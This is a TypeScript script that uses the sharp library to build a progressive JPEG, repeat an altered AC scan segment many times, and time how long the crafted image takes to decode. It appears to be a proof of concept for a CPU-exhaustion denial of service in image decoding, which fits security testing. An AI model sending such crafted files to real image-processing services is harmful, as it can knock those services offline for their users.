import sharp from 'sharp';
function segments(jpeg: Buffer) {
  const out: { marker: number; start: number; end: number }[] = [];
  let i = 2;
  while (i < jpeg.length) {
    const marker = jpeg[i + 1]!;
    if (marker === 0xd9) { out.push({ marker, start: i, end: i + 2 }); break; }
    const len = jpeg.readUInt16BE(i + 2);
    let end = i + 2 + len;
    if (marker === 0xda) {
      while (!(jpeg[end] === 0xff && jpeg[end + 1] !== 0 && !(jpeg[end + 1]! >= 0xd0 && jpeg[end + 1]! <= 0xd7))) end++;
    }
    out.push({ marker, start: i, end });
    i = end;
  }
  return out;
}
const w = Number(process.argv[2]), h = Number(process.argv[3]), reps = Number(process.argv[4]);
const jpeg = await sharp({ create: { width: w, height: h, channels: 3, background: { r: 120, g: 160, b: 90 } } }).jpeg({ progressive: true, quality: 90 }).toBuffer();
const segs = segments(jpeg);
const ac = segs.find((s) => { if (s.marker !== 0xda) return false; const p = s.start + 5 + jpeg[s.start + 4]! * 2; return jpeg[p]! >= 1 && jpeg[p + 2]! >> 4 === 0; })!;
const scan = Buffer.from(jpeg.subarray(ac.start, ac.end));
const p = 5 + scan[4]! * 2;
scan[p + 2] = 0;
console.log('plain', jpeg.length, 'scan bytes', scan.length);
const eoi = segs.at(-1)!;
const crafted = Buffer.concat([jpeg.subarray(0, eoi.start), ...Array(reps).fill(scan), jpeg.subarray(eoi.start)]);
console.log('crafted', crafted.length);
const t = performance.now();
try { const r = await sharp(crafted, { failOn: 'error' }).resize(2400, 2400, { fit: 'inside' }).raw().toBuffer({ resolveWithObject: true }); console.log(r.info.width); } catch (e) { console.log('err', (e as Error).message); }
console.log('ms', performance.now() - t);
